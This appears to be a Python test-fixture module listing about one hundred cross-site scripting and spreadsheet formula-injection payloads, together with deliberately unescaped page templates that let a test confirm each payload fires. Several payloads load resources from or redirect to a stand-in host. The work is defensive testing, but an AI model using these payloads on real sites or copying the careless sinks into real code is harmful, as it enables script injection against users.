# SPDX-License-Identifier: Apache-2.0
"""One hundred texts that would run, draw or fetch something if a page took them for more than text.

Each is told with the place in which it bites, so that a test can show that every one of them is alive. `%N` becomes the
number by which a page that was fooled is found again: `window.__x = N`. They are our own.
"""

from __future__ import annotations

import html
import unicodedata
from collections.abc import Callable
from dataclasses import dataclass
from urllib.parse import quote, unquote


@dataclass(frozen=True)
class Payload:
    """`where`: the kind of place in which it bites (PLACES)."""

    where: str
    text: str

    def numbered(self, number: int) -> str:
        return self.text.replace("%N", str(number))


RUN = "window.__x=%N"
HTML = [
    f"<script>{RUN}</script>",
    f"<ScRiPt\n>{RUN}</sCrIpT\t>",
    f"<script/x>{RUN}</script/y>",
    f"<script type=module>{RUN}</script>",
    f"<script>/*</script><script>*/{RUN}</script>",
    f"<script src=data:text/javascript,{RUN}></script>",
    "<script src=//ngoai.test/%N.js></script>",
    f"<script>{RUN}//",
    f"<scr<script></script><script>{RUN}</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'",
    f"<IMG SRC=/ OnErRoR={RUN}//",
    f'<img/src="x"/onerror={RUN}>',
    f"<img\fsrc=x\fonerror={RUN}>",
    f"<img alt='`' src=x onerror=\"{RUN}\">",
    f"<image src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}><option>1</select>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<button onclick={RUN}>Bấm</button>",
    f"<b onmouseover={RUN}>Rê chuột</b>",
    f"<p onpointerenter={RUN}>Chạm</p>",
    f"<a href=x onfocus={RUN} tabindex=1>Tới</a>",
    f"<details open ontoggle={RUN}><summary>Mở</summary></details>",
    f"<video src=x onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<video><source src=x onerror={RUN}></video>",
    f"<object data=data:text/html,<script>parent.{RUN}</script>></object>",
    f'<embed src="javascript:{RUN}">',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    f"<iframe onload={RUN}></iframe>",
    f"<body onload={RUN}>",
    f"<body onpageshow={RUN}>",
    f"<dialog open oncancel={RUN}>?</dialog>",
    f"<marquee onstart={RUN}>%N</marquee>",
    f"<xss-%N contenteditable onfocus={RUN} tabindex=0>x</xss-%N>",
    f"<div onanimationstart={RUN} class=spin>x</div>",
    f'<form><button formaction="javascript:{RUN}">Gửi</button></form>',
    f'<form action="javascript:{RUN}"><input type=submit></form>',
    "<form id=f%N action=//ngoai.test/%N><input type=submit></form>",
    "<base href=//ngoai.test/%N/>",
    "<meta http-equiv=refresh content='0;url=//ngoai.test/%N'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\"><i title=%N>",
    "<link rel=stylesheet href=//ngoai.test/%N.css>",
    "<link rel=prefetch href=//ngoai.test/%N>",
    "<img src=//ngoai.test/%N.png>",
    "<style>body{background:url(//ngoai.test/%N)}</style>",
    "<style>@import '//ngoai.test/%N.css';</style>",
    "<img name=cookie id=__x%N><a id=defaultView>",
]  # fmt: skip
DRAWN = [
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href=data:text/javascript,{RUN} /></svg>",
    f'<svg><a xlink:href="javascript:{RUN}"><text y=9>Tới</text></a></svg>',
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=onmouseover to=1 onbegin={RUN}>",
    f'<svg><a><animate attributeName=href values="javascript:{RUN}"/><text y=9>x</text></a></svg>',
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<svg><desc><img src=x onerror={RUN}></desc></svg>",
    f'<svg><use href="//ngoai.test/%N.svg#a"/><image href="//ngoai.test/%N.png" onerror={RUN} /></svg>',
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f'<math href="javascript:{RUN}">Bấm</math>',
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={RUN}></annotation-xml></math>",
]  # fmt: skip
CHANGED = [
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror={RUN}>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f"<table><td><img src=x onerror={RUN}><tr>",
    f"<template><b></template><img src=x onerror={RUN}>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[><img src=x onerror={RUN}>]]>",
    f'<?xml x="?><img src=x onerror={RUN}>"?>',
]  # fmt: skip
PLACED = [
    ("quoted", f'" autofocus onfocus="{RUN}'),
    ("quoted", f'"><script>{RUN}</script>'),
    ("quoted", f'" onmouseover={RUN} a="'),
    ("single", f"' autofocus onfocus='{RUN}"),
    ("single", f"'><img src=x onerror={RUN}>"),
    ("bare", f"x autofocus onfocus={RUN}"),
    ("bare", f"x\tonfocus={RUN}\ttabindex=1"),
    ("area", f"</textarea><img src=x onerror={RUN}>"),
    ("title", f"</title><img src=x onerror={RUN}>"),
    ("note", f"--><img src=x onerror={RUN}><!--"),
    ("code", f"</script><script>{RUN}</script>"),
    ("code", f'";{RUN}//'),
    ("code", f"\u2028{RUN}//\u2029</script><svg onload={RUN}>"),
    ("link", f"javascript:{RUN}"),
    ("link", f"JaVa\tScRiPt:{RUN}"),
    ("link", f"\x01javascript://%0a{RUN}"),
    ("link", f"data:text/html,<script>{RUN}</script>"),
    ("link", f"vbscript:{RUN}"),
    ("style", "background:url(//ngoai.test/%N)"),
    ("style", "x:1;background-image:image-set('//ngoai.test/%N' 1x)"),
    ("style", "list-style:url(//ngoai.test/%N);display:list-item"),
    ("form", "{{ 7|add:%N }}{% now 'Y' %}"),
    ("once", quote(f"<img src=x onerror={RUN}>").replace("%25N", "%N")),
    ("entity", f"&lt;img src=x onerror={RUN}&gt;"),
    ("entity", f"&#x3c;svg onload&#61;{RUN}&#62;"),
    ("wide", f"＜img src=x onerror＝{RUN}＞"),
    ("low", f"\u013cimg src=x onerror={RUN}\u013e"),
]  # fmt: skip
PAYLOADS = [Payload("text", text) for text in (*HTML, *DRAWN, *CHANGED)] + [Payload(*one) for one in PLACED]
SHORT = [
    Payload("text", "<svg onload=__x=%N>"),
    Payload("text", "<b onclick=__x=%N>"),
    Payload("text", "<a id=__x%N>"),
    Payload("quoted", '"onclick="__x=%N'),
]
"""For columns that have room for no more."""
FORMULAS = ["=1+%N", "+%N", "-%N", "@SUM(%N)", "\t=%N", "\r=%N", '=HYPERLINK("//ngoai.test/%N")']
"""What a spreadsheet would reckon with."""


def _template(text: str) -> str:
    """A page that takes the text for its own template."""
    from django.template import engines

    return str(engines["django"].from_string(text).render({})) + "<script>window.__x=1</script>"


PLACES: dict[str, Callable[[str], str]] = {
    "text": lambda text: f"<p>{text}</p>",
    "quoted": lambda text: f'<input value="{text}">',
    "single": lambda text: f"<input value='{text}'>",
    "bare": lambda text: f"<input value={text}>",
    "area": lambda text: f"<textarea>{text}</textarea>",
    "title": lambda text: f"<title>{text}</title>",
    "note": lambda text: f"<!-- {text} -->",
    "code": lambda text: f'<script>var a = "{text}"</script>',
    "link": lambda text: f'<a href="{html.escape(text)}">Tới</a>',
    "style": lambda text: f'<p style="{html.escape(text)}">Dáng</p>',
    "form": _template,
    "once": lambda text: f"<p>{unquote(text)}</p>",
    "entity": lambda text: f"<p>{html.unescape(text)}</p>",
    "wide": lambda text: f"<p>{unicodedata.normalize('NFKC', text)}</p>",
    "low": lambda text: f"<p>{''.join(chr(ord(one) % 256) for one in text)}</p>",
}
"""Careless pages, one for each kind of place."""
